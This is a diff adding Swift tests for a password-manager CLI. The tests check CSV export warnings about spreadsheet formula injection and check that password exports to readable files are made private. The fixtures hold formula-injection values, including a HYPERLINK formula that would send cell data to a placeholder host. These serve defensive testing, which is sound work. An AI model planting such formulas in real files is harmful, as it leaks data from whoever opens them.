@@ -114,4 +114,66 @@ import Testing
     #expect(locked.status == 7, "\(locked)")
     #expect(locked.standardOutput == "", "\(locked)")
   }
+
+  /// A password a spreadsheet would run as a formula is written as it is (import reads it back
+  /// exactly), with a warning naming its line, never the password; --spreadsheet-safe writes it
+  /// with a ' in front, in quotes.
+  @Test func fieldsASpreadsheetWouldRunAreNamedAndTheSafeFormDisarmsThem() throws {
+    let world = try Fixture().addingBackend("corp")
+    defer { world.close() }
+    let sandbox = world.sandbox
+    let passwords = ["alice": "=HYPERLINK(\"http://x/\"&B3)", "bob": "plain", "carol": "@SUM(1)", "+44": "-1+2"]
+    for user in passwords.keys.sorted() {
+      try sandbox.ok(["add", user, "--remember", "--password-stdin"], stdin: passwords[user]! + "\n")
+    }
+    let verbatim = try sandbox.ok(["export", "--with-passwords"])
+    #expect(
+      verbatim.standardOutput == "account,password,backend,tags,otp\r\n+44@corp,-1+2,corp,,\r\n"
+        + "alice@corp,\"=HYPERLINK(\"\"http://x/\"\"&B3)\",corp,,\r\nbob@corp,plain,corp,,\r\ncarol@corp,@SUM(1),corp,,\r\n")
+    #expect(
+      verbatim.standardError.contains(
+        "accounts: warning: a spreadsheet would run these fields as formulas (they start with =, +, -, @, a tab or a "
+          + "carriage return): line 2 (+44@corp: account, password), line 3 (alice@corp: password), line 5 (carol@corp: password); "
+          + "to open the file in one, export with --spreadsheet-safe\n"), "\(verbatim)")
+    #expect(!verbatim.standardError.contains("SUM") && !verbatim.standardError.contains("HYPERLINK"))
+
+    let safe = try sandbox.ok(["export", "--with-passwords", "--spreadsheet-safe"])
+    #expect(
+      safe.standardOutput == "account,password,backend,tags,otp\r\n\"'+44@corp\",\"'-1+2\",corp,,\r\n"
+        + "alice@corp,\"'=HYPERLINK(\"\"http://x/\"\"&B3)\",corp,,\r\nbob@corp,plain,corp,,\r\ncarol@corp,\"'@SUM(1)\",corp,,\r\n")
+    #expect(!safe.standardError.contains("warning: a spreadsheet"), "\(safe)")
+    #expect(safe.standardError.contains("accounts: written with a ' in front for a spreadsheet (import would keep it): line 2"))
+
+    let target = try Fixture().addingBackend("corp")
+    defer { target.close() }
+    try target.sandbox.ok(["import", "-"], stdin: verbatim.standardOutput)
+    for (user, password) in passwords { #expect(try target.sandbox.password(user) == password + "\n", "\(user)") }
+  }
+
+  /// `> file` under umask 022 makes a file anyone may read: an export with passwords makes it
+  /// 0600 before writing them and says so; a file it did not just get (appended to) keeps its
+  /// mode, with a warning.
+  @Test func aFileOthersCouldReadIsMadePrivateBeforeThePasswordsAreWritten() throws {
+    let world = try Fixture().addingBackend("corp")
+    defer { world.close() }
+    let sandbox = world.sandbox
+    try sandbox.ok(["add", "alice", "--remember", "--password-stdin"], stdin: "alice-pw\n")
+    let path = sandbox.keyring.root + "/backup.csv"
+    let fresh = try sandbox.shell("umask 022; \"$ACCOUNTS\" export --with-passwords > '\(path)'")
+    #expect(fresh.status == 0, "\(fresh)")
+    #expect(fresh.standardError.contains("accounts: stdout is a file others could read (mode 0644): made it 0600 before writing the passwords\n"), "\(fresh)")
+    let mode = try #require(try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int)
+    #expect(mode == 0o600)
+    #expect(try String(contentsOfFile: path, encoding: .utf8).contains("alice@corp,alice-pw,"))
+
+    try FileManager.default.setAttributes([.posixPermissions: 0o640], ofItemAtPath: path)
+    let appended = try sandbox.shell("\"$ACCOUNTS\" export --with-passwords >> '\(path)'")
+    #expect(appended.status == 0, "\(appended)")
+    #expect(appended.standardError.contains("accounts: warning: stdout is a file others can read (mode 0640), and now holds passwords"), "\(appended)")
+    #expect(try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int == 0o640, "not ours to change")
+
+    let plain = try sandbox.shell("umask 022; \"$ACCOUNTS\" export > '\(path).plain'")
+    #expect(plain.standardError.isEmpty, "no passwords, nothing to say: \(plain)")
+    #expect(try FileManager.default.attributesOfItem(atPath: path + ".plain")[.posixPermissions] as? Int == 0o644)
+  }
 }
